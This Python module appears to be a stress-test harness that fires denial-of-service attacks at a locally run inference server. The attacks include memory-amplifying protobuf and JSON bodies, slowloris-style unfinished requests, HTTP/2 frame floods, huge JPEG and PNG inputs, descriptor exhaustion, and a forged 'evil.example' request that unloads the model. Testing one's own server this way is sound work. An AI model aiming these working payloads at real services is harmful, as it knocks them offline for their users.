"""The kinds of attacks. Each is a function that a client runs again and again until the attack ends."""

import base64
import json
import select
import socket
import struct
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field as of
from functools import partial
from pathlib import Path

from . import wire
from .wire import Http2, field, http1

MIB = 1 << 20
# Part of the largest body that the server takes. The rest is for the fields around it.
LARGE = 63 * MIB
MODEL = "tinyvit32"
HEALTH = "/v2/health/live"
INFER = f"/v2/models/{MODEL}/infer"
DIGIT = (Path(__file__).resolve().parents[2] / "assets/samples/3.png").read_bytes()


def image_request(images: list[bytes], outputs: list | None = None) -> bytes:
    data = [base64.b64encode(image).decode() for image in images]
    request = {"inputs": [{"name": "image", "datatype": "BYTES", "shape": [len(data)], "data": data}]}
    return json.dumps(request | ({} if outputs is None else {"outputs": outputs})).encode()


def values_request(value: float) -> bytes:
    """Normalised values of an image, all the same."""
    tensor = {"name": "pixel_values", "datatype": "FP32", "shape": [1, 3, 32, 32], "data": [value] * 3072}
    return json.dumps({"inputs": [tensor], "outputs": [{"name": "logits"}]}).encode()


ORDINARY = image_request([DIGIT], [{"name": "logits"}])


class Attacker:
    """What the clients of an attack share: the server's address, what to send, when to stop, and what they were answered."""

    SOURCE = "127.0.0.2"

    def __init__(self, port: int, body: bytes):
        self.port, self.body = port, body
        self.stop = threading.Event()
        self.answers = Counter()

    @contextmanager
    def connect(self, timeout: float = 60) -> Iterator[socket.socket]:
        with socket.create_connection(("127.0.0.1", self.port), timeout, (self.SOURCE, 0)) as stream:
            stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            yield stream

    def ask(self, request: bytes) -> None:
        """Sends a request by HTTP/1.1, reads the answer and counts its status."""
        with self.connect() as stream:
            try:
                stream.sendall(request)
            except OSError:
                pass  # The server may answer before it has the whole body.
            status = stream.recv(12)[9:].decode() or "closed"
            while stream.recv(MIB):
                pass
        self.answers[status] += 1

    def watch(self, read: Callable, seconds: float = 30):
        """Reads until something true is read, the time is over or the attack ends. Returns what was read."""
        end = time.monotonic() + seconds
        while not self.stop.is_set() and time.monotonic() < end:
            try:
                if found := read():
                    return found
            except TimeoutError:
                pass
        return None

    def run(self, work: Callable[["Attacker"], None]) -> None:
        while not self.stop.is_set():
            try:
                work(self)
            except OSError as error:
                self.answers[type(error).__name__] += 1
            self.stop.wait(0.05)


@dataclass
class Kind:
    name: str
    # Action that a client repeats, and its request.
    work: Callable[[Attacker], None]
    body: Callable[[], bytes] = bytes
    clients: int = 3
    # Settings of the server.
    options: tuple[str, ...] = ()
    token: bool = False
    descriptors: int | None = None
    stderr: str = "file"  # or "full", "closed": a full disk, a pipe whose reader leaves
    provider: bool = False
    # Settings of the neighbour.
    neighbour: bytes = ORDINARY
    seconds: float | None = None
    environment: dict[str, str] = of(default_factory=dict)

    def group(self) -> str:
        return self.name.split()[0]


# Messages and bodies whose memory exceeds their size.


def message(name: str) -> bytes:
    """A `ModelInferRequest` as large as the server takes, made of one field."""
    if name in (repeated := {"inputs": 5, "outputs": 6, "raw contents": 7}):
        fields = field(repeated[name], b"") * (LARGE // 2)
    elif name == "parameters":
        fields = wire.map_entries(4, LARGE)
    else:
        tensor = {
            "shape": lambda: field(3, b"\1" * LARGE),
            "byte contents": lambda: field(5, field(8, b"") * (LARGE // 2)),
            "uint64 contents": lambda: field(5, field(5, b"\1" * LARGE)),
            "bool contents": lambda: field(5, b"\x08\1" * (LARGE // 2)),
        }
        fields = field(5, tensor[name]())
    return field(1, MODEL.encode()) + fields


def load_message() -> bytes:
    return field(2, MODEL.encode()) + wire.map_entries(3, LARGE)


def output_message() -> bytes:
    tensor = field(1, b"image") + field(2, b"BYTES") + field(3, b"\1")
    output = field(6, field(1, b"logits"))
    return field(1, MODEL.encode()) + field(5, tensor) + output * (4 * MIB // len(output)) + field(7, struct.pack("<I", len(DIGIT)) + DIGIT)


def grpc(attacker: Attacker, method: str = "ModelInfer") -> None:
    with attacker.connect() as stream:
        connection = Http2(stream)
        connection.wait(connection.grpc(method, attacker.body))
        attacker.answers["answered"] += 1


TENSOR = b'{"inputs":[{"name":"image","datatype":"BYTES","shape":[1],"data":['
# Bytes before the elements of a list, of an element, and after the elements.
JSON = {
    "parameters": (b'{"parameters":{"a":[', b'{"":0},', b"]}}"),
    "inputs": (b'{"inputs":[', b'{"name":"","datatype":"","shape":[]},', b"]}"),
    "outputs": (b'{"inputs":[],"outputs":[', b'{"name":""},', b"]}"),
    "empty strings": (TENSOR, b'"",', b"]}]}"),
    "numbers": (TENSOR.replace(b"BYTES", b"UINT8"), b"0,", b"]}]}"),
    "nested data": (TENSOR, b"[0],", b"]}]}"),
    "embeddings": (b'{"model":"tinyvit32","input":[', b'"",', b"]}"),
    "embeddings' objects": (b'{"model":"tinyvit32","input":[', b'{"image":""},', b"]}"),
}


def json_request(name: str) -> bytes:
    begin, element, end = JSON[name]
    body = begin + element * (LARGE // len(element)) + element.rstrip(b",") + end
    return http1("/v1/embeddings" if name.startswith("embeddings") else INFER, body)


def parameter_names() -> bytes:
    return http1(INFER, b'{"parameters":{' + b",".join(b'"%x":0' % i for i in range(LARGE // 12)) + b"}}")


def send(attacker: Attacker) -> None:
    attacker.ask(attacker.body)


# Announced bodies that do not arrive, and bodies that do not end.


def announced_http2(path: str, attacker: Attacker) -> None:
    with attacker.connect(1) as stream:
        connection = Http2(stream)
        for _ in range(16):
            connection.request(path, {"content-length": str(64 * MIB)})
        attacker.watch(lambda: connection.read_frame() or len(connection.ended) == 16)
        attacker.answers["refused"] += len(connection.ended)
        attacker.answers["held"] += 16 - len(connection.ended)


def unfinished_http1(attacker: Attacker) -> None:
    with attacker.connect(1) as stream:
        stream.sendall(attacker.body)
        status = attacker.watch(lambda: stream.recv(12)[9:].decode() or "closed")
        attacker.answers[status or "held"] += 1


# Outputs and answers.


def outputs_request(count: int, images: int) -> bytes:
    return http1(INFER, image_request([DIGIT] * images, [{"name": "patch_tokens"}] * count))


def unread_answers(attacker: Attacker) -> None:
    with attacker.connect(5) as stream:
        connection = Http2(stream, window=0)
        body = image_request([DIGIT] * 6, [{"name": "patch_tokens"}])
        for _ in range(240):
            if attacker.stop.is_set():
                return
            request = connection.request(INFER)
            connection.send(request, body)
            connection.wait(request, head_only=True)
            attacker.answers["unread"] += 1
        attacker.watch(connection.read_frame, 600)


# Images.


def jpeg_request() -> bytes:
    return http1(INFER, wire.scans_jpeg(), {"Inference-Header-Content-Length": "0"})


def png_request() -> bytes:
    return http1(INFER, image_request([wire.large_png()] * 16))


def send_and_leave(attacker: Attacker) -> None:
    with attacker.connect() as stream:
        stream.sendall(attacker.body)
        attacker.stop.wait(0.5)
    attacker.answers["left"] += 1


# Connections.


def idle_http2(attacker: Attacker) -> None:
    with attacker.connect(1) as stream:
        connection = Http2(stream)
        attacker.watch(connection.read_frame, 600)


def silent(attacker: Attacker) -> None:
    with attacker.connect(1) as stream:
        stream.sendall(b"POST / HTTP/1.1\r\nHost: " + attacker.body)
        attacker.watch(lambda: not stream.recv(1024), 600)


def frames(kind: int, payload: bytes) -> bytes:
    return wire.frame(kind, 0, 0, payload) * 1000


def flood(attacker: Attacker) -> None:
    with attacker.connect() as stream:
        Http2(stream)
        stream.setblocking(False)
        rest = b""
        while not attacker.stop.is_set():
            # Read the acknowledgements, because a server that cannot send them stops reading.
            readable, writable, _ = select.select([stream], [stream], [], 1)
            if readable and not stream.recv(MIB):
                raise ConnectionError("the server closed the connection")
            if writable:
                rest = rest or attacker.body
                rest = rest[stream.send(rest) :]


# Requests that cause output on standard error, and web pages.


def noise(attacker: Attacker) -> None:
    """Requests that the server may have something to say about."""
    attacker.ask(http1(INFER, values_request(3e38)))
    attacker.ask(http1("/v2/repository/models/none/load"))
    attacker.ask(http1(INFER, b"{"))


def foreign_page() -> bytes:
    headers = {"Host": "evil.example", "Origin": "http://evil.example", "Content-Type": "text/plain"}
    return http1(f"/v2/repository/models/{MODEL}/unload", b"", headers)


STRICT = ("--strict", "--pixel-values")
TOKENS = ("--tokens",)
TABLE = ("--max-connections", "64")

FIELDS = ["inputs", "outputs", "parameters", "shape", "raw contents", "byte contents", "uint64 contents", "bool contents"]
FRAMES = {"ping": (wire.PING, bytes(8)), "settings": (wire.SETTINGS, b""), "window": (wire.WINDOW_UPDATE, struct.pack(">I", 1))}

# Descriptions of the groups of kinds, by the first word of their names.
GROUPS = {
    "none": "an ordinary client, to compare the others with",
    "busy": "valid requests as fast as they are answered, on 16 connections",
    "protobuf": "messages of 63 MiB with one field again and again",
    "json": "JSON of 63 MiB with one element again and again",
    "announced": "bodies of 64 MiB that are announced and do not come; to health without a token, and to inference",
    "hoarded": "bodies of 63 MiB that do not end",
    "outputs": "the same output named 16, 50,000 and 500,000 times",
    "unread": "HTTP/2 answers that the client does not take",
    "strict": "values whose logits are not finite, to a server with --strict",
    "jpeg": "172 kB of JPEG with 490 scans of 8000 x 8000 pixels, whose clients leave",
    "png": "requests with 16 PNGs of 64 megapixels",
    "device": "those requests, to a server with --resize device on an emulated GPU, which is slow",
    "idle": "HTTP/2 connections without a token that only answer pings, more than the table has",
    "silent": "connections whose heads do not end, more than the table has; and 1000 with 390 kB each",
    "descriptors": "more connections than the process may open files, and a closed standard error",
    "flood": "HTTP/2 frames without requests",
    "stderr": "invalid requests while standard error is full or closed",
    "foreign": "a web page of another site that unloads the model",
}

KINDS = [
    Kind("none", send, partial(http1, INFER, ORDINARY), clients=1),
    Kind("busy", send, partial(http1, INFER, image_request([DIGIT] * 8)), clients=16),
    *(Kind(f"protobuf {name}", grpc, partial(message, name)) for name in FIELDS),
    Kind("protobuf stream", partial(grpc, method="ModelStreamInfer"), partial(message, "inputs")),
    Kind("protobuf load", partial(grpc, method="RepositoryModelLoad"), load_message),
    *(Kind(f"json {name}", send, partial(json_request, name)) for name in JSON),
    Kind("json parameter names", send, parameter_names),
    Kind("announced health http2", partial(announced_http2, HEALTH), clients=1, token=True),
    Kind("announced health http1", unfinished_http1, partial(http1, HEALTH, length=64 * MIB), clients=16, token=True),
    Kind("announced http2", partial(announced_http2, INFER), clients=1),
    Kind("announced http1", unfinished_http1, partial(http1, INFER, length=64 * MIB), clients=16),
    Kind("hoarded", unfinished_http1, partial(http1, INFER, bytes(LARGE), length=64 * MIB), clients=8),
    Kind("outputs json", send, partial(outputs_request, 50_000, 1), options=TOKENS),
    Kind("outputs json 16", send, partial(outputs_request, 16, 8), options=TOKENS),
    Kind("outputs grpc", grpc, output_message),
    Kind("unread", unread_answers, clients=4, options=TOKENS, seconds=45),
    Kind("strict", send, partial(http1, INFER, values_request(3e38)), clients=4, options=STRICT, neighbour=values_request(0.5)),
    Kind("jpeg", send_and_leave, jpeg_request, clients=4),
    Kind("png", send, png_request, clients=2),
    Kind("device", send, png_request, clients=2, options=("--resize", "device"), provider=True),
    Kind("idle", idle_http2, clients=80, options=TABLE, token=True, seconds=30),
    Kind("silent", silent, clients=80, options=TABLE, seconds=30),
    Kind("silent heads", silent, partial(bytes.ljust, b"", 390_000, b"a"), clients=1000),
    Kind("descriptors", silent, clients=300, descriptors=128, stderr="closed"),
    *(Kind(f"flood {name}", flood, partial(frames, *FRAMES[name]), clients=2) for name in FRAMES),
    Kind("stderr full", noise, clients=2, options=STRICT, stderr="full"),
    Kind("stderr closed", noise, clients=2, options=STRICT, stderr="closed"),
    Kind("foreign", send, foreign_page, clients=1, options=("--model-control",)),
]
